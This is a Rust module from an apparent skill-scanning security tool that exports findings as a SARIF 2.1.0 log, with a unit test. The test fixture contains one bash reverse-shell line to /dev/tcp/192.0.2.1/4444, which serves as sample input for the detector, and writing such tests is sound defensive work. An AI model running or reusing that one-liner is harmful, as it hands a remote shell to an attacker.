//! SARIF 2.1.0 (OASIS), as code hosts read it.

use serde_json::{Value, json};

use crate::report::{Finding, ScanReport};
use crate::rule::Rule;
use crate::severity::Severity;

const SCHEMA: &str = "https://json.schemastore.org/sarif-2.1.0.json";

/// The name of the fingerprint. The number is increased when it is computed in another way.
const FINGERPRINT: &str = "skillScanner/v1";

/// Reports of one or more skills as one SARIF 2.1.0 log with one run.
///
/// Each report comes with a prefix for its paths, for example `skills/pdf/`, or an empty text. `ruleId` is the rule's id,
/// `partialFingerprints` has the finding's fingerprint, and the rule's `security-severity` is a number from 0.0 to 10.0. A
/// finding without a line has no region.
#[must_use]
pub fn to_sarif<'a>(reports: impl IntoIterator<Item = (&'a ScanReport, &'a str)>) -> Value {
    let rules = crate::rules();
    let results: Vec<Value> = reports
        .into_iter()
        .flat_map(|(report, prefix)| {
            report
                .findings
                .iter()
                .map(move |finding| result(rules, finding, prefix))
        })
        .collect();
    json!({
        "$schema": SCHEMA,
        "version": "2.1.0",
        "runs": [{
            "tool": { "driver": {
                "name": "skill-scanner",
                "semanticVersion": env!("CARGO_PKG_VERSION"),
                "rules": rules.iter().map(rule).collect::<Vec<_>>(),
                "properties": { "ruleset": crate::ruleset_version() },
            }},
            "columnKind": "unicodeCodePoints",
            "results": results,
        }],
    })
}

fn rule(rule: &Rule) -> Value {
    json!({
        "id": rule.id,
        "shortDescription": { "text": rule.title },
        "fullDescription": { "text": rule.reason },
        "help": { "text": rule.advice },
        "defaultConfiguration": { "level": level(rule.severity) },
        "properties": {
            "security-severity": security_severity(rule.severity),
            "tags": ["security", rule.family.as_str()],
        },
    })
}

fn result(rules: &[Rule], finding: &Finding, prefix: &str) -> Value {
    let mut location = json!({ "artifactLocation": { "uri": uri(prefix, &finding.path) } });
    if let (Some(line), Some(location)) = (finding.line, location.as_object_mut()) {
        let region = json!({ "startLine": line, "snippet": { "text": finding.excerpt } });
        location.insert("region".to_owned(), region);
    }
    json!({
        "ruleId": finding.rule,
        "ruleIndex": rules.binary_search_by(|rule| rule.id.cmp(&finding.rule)).ok(),
        "level": level(finding.severity),
        "message": { "text": format!("{} {}", finding.reason, finding.advice) },
        "locations": [{ "physicalLocation": location }],
        "partialFingerprints": { FINGERPRINT: finding.fingerprint },
        "properties": { "severity": finding.severity, "security-severity": security_severity(finding.severity) },
    })
}

const fn level(severity: Severity) -> &'static str {
    match severity {
        Severity::Info | Severity::Low => "note",
        Severity::Medium => "warning",
        Severity::High | Severity::Critical => "error",
    }
}

/// Code hosts call 9.0 and more critical, 7.0 high, 4.0 medium, and what is above 0.0 low.
const fn security_severity(severity: Severity) -> &'static str {
    match severity {
        Severity::Info => "0.0",
        Severity::Low => "3.0",
        Severity::Medium => "5.5",
        Severity::High => "8.0",
        Severity::Critical => "9.5",
    }
}

/// A relative URI reference (RFC 3986): every byte that is not unreserved or `/` is percent-encoded.
fn uri(prefix: &str, path: &str) -> String {
    let mut uri = String::new();
    for byte in prefix.bytes().chain(path.bytes()) {
        if byte.is_ascii_alphanumeric() || b"-._~/".contains(&byte) {
            uri.push(char::from(byte));
        } else {
            uri.push_str(&format!("%{byte:02X}"));
        }
    }
    uri
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{ScanFile, ScanOptions, scan};

    #[test]
    fn log_has_rule_place_and_fingerprint_of_each_finding() {
        let file = ScanFile {
            path: "a b.sh",
            bytes: b"ls\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
            is_executable: false,
        };
        let report = scan(&[file], &ScanOptions::default());
        let log = to_sarif([(&report, "skills/x/")]);
        assert_eq!(log["version"], "2.1.0");
        let run = &log["runs"][0];
        let result = &run["results"][0];
        let rule = &run["tool"]["driver"]["rules"][result["ruleIndex"].as_u64().unwrap() as usize];
        assert_eq!(rule["id"], result["ruleId"]);
        let place = &result["locations"][0]["physicalLocation"];
        assert_eq!(place["artifactLocation"]["uri"], "skills/x/a%20b.sh");
        assert_eq!(place["region"]["startLine"], 2);
        assert_eq!(
            result["partialFingerprints"]["skillScanner/v1"].as_str().unwrap(),
            report.findings[0].fingerprint
        );
    }
}
